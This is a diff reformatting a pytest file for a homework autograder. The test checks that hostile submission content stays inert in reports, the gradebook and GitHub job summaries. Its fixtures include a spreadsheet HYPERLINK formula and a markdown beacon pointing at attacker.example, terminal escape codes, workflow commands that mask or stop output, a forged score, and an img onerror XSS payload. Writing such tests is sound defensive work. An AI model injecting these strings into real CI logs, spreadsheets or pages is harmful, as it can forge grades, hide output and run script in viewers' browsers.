@@ -19,10 +19,19 @@ from grader.project import Layout
 LAYOUT = Layout(ROOT, "nndl")
 FORMULA = '=HYPERLINK("attacker.example?steal=1","click me")'  # a folder name: no slash
 # An exception message that tries every medium at once.
-FORGERY = ("\\x1b[2J\\x1b[Htotal: 58 / 58\\r\\n::add-mask::hidden\\n::stop-commands::x\\n"
-           "```\\n\\n**83 / 83**\\n![beacon](http://attacker.example/b.png)\\n<img src=x onerror=alert(1)>\\n````")
-HOSTILE_SGD = {"replace": [{"file": "nndl/optim.py", "old": "    next_w = w - config['learning_rate'] * dw\n",
-                            "new": f"    raise ValueError(\"{FORGERY}\")\n"}]}
+FORGERY = (
+    "\\x1b[2J\\x1b[Htotal: 58 / 58\\r\\n::add-mask::hidden\\n::stop-commands::x\\n"
+    "```\\n\\n**83 / 83**\\n![beacon](http://attacker.example/b.png)\\n<img src=x onerror=alert(1)>\\n````"
+)
+HOSTILE_SGD = {
+    "replace": [
+        {
+            "file": "nndl/optim.py",
+            "old": "    next_w = w - config['learning_rate'] * dw\n",
+            "new": f'    raise ValueError("{FORGERY}")\n',
+        }
+    ]
+}
 MODIFIES_PROVIDED = {"add": [{"path": "utils/gradient_check.py", "text": "# edited by the student\n"}]}
 
 
@@ -43,15 +52,29 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
             if path.is_file():
                 zf.write(path, path.relative_to(folder.parent).as_posix())
     out = base / "out"
-    args = [str(batch), "--reference", str(LAYOUT.reference), "--fixtures", str(LAYOUT.fixtures),
-            "--hidden-seed-file", str(seed), "--no-notebooks", "--out", str(out), "--jobs", "2",
-            "--json", str(base / "reports.json")]
+    args = [
+        str(batch),
+        "--reference",
+        str(LAYOUT.reference),
+        "--fixtures",
+        str(LAYOUT.fixtures),
+        "--hidden-seed-file",
+        str(seed),
+        "--no-notebooks",
+        "--out",
+        str(out),
+        "--jobs",
+        "2",
+        "--json",
+        str(base / "reports.json"),
+    ]
     assert cli.main(args) == 0
     return {"base": base, "out": out, "args": args}  # type: ignore[dict-item]
 
 
 def test_a_folder_and_a_zip_of_the_same_name_and_a_240_character_name_each_get_their_own_report(
-        graded: dict[str, Path]) -> None:
+    graded: dict[str, Path],
+) -> None:
     reports = {r["submission"]: r for r in json.loads((graded["base"] / "reports.json").read_text())}
     assert set(reports) == {FORMULA, "flagged", "a" * 240, "alice", "alice.zip"}
     assert reports["alice"]["total"] == 58 and reports["alice.zip"]["total"] == 57
@@ -91,8 +114,9 @@ def test_feedback_shows_student_text_as_text(graded: dict[str, Path]) -> None:
 
 def test_flags_reach_the_json_the_gradebook_and_the_feedback(graded: dict[str, Path]) -> None:
     reports = {r["submission"]: r for r in json.loads((graded["base"] / "reports.json").read_text())}
-    assert reports["flagged"]["flags"] == ["provided file(s) modified in the submission, graded with the originals: "
-                                           "utils/gradient_check.py"]
+    assert reports["flagged"]["flags"] == [
+        ("provided file(s) modified in the submission, graded with the originals: utils/gradient_check.py")
+    ]
     assert reports["alice"]["flags"] == []
     gradebook = pd.read_csv(graded["out"] / "gradebook.csv", dtype=str, keep_default_na=False).set_index("submission")
     assert "utils/gradient_check.py" in gradebook.loc["flagged", "flags"]
@@ -100,14 +124,22 @@ def test_flags_reach_the_json_the_gradebook_and_the_feedback(graded: dict[str, P
 
 
 def test_job_summary_and_annotations_are_inert(graded: dict[str, Path]) -> None:
-    report = next(r for r in json.loads((graded["base"] / "reports.json").read_text())
-                  if r["submission"] == FORMULA)
-    one_line = dict(report, items=[dict(report["items"][0], points=0.0, status="fail",
-                                        message="**83 / 83** ![b](http://attacker.example/b.png) <img src=x> | x")])
+    report = next(r for r in json.loads((graded["base"] / "reports.json").read_text()) if r["submission"] == FORMULA)
+    one_line = dict(
+        report,
+        items=[
+            dict(
+                report["items"][0],
+                points=0.0,
+                status="fail",
+                message="**83 / 83** ![b](http://attacker.example/b.png) <img src=x> | x",
+            )
+        ],
+    )
     for data in (report, one_line):
         summary = github_summary.summary_markdown(data)
         assert "**83" not in summary and "<img" not in summary and "![" not in summary
-        lines = github_summary.annotations(data)
+        lines = github_summary.annotation_lines(data)
         assert lines
         for line in lines:
             assert line.startswith(("::error ", "::warning ")) and "\n" not in line and "\r" not in line
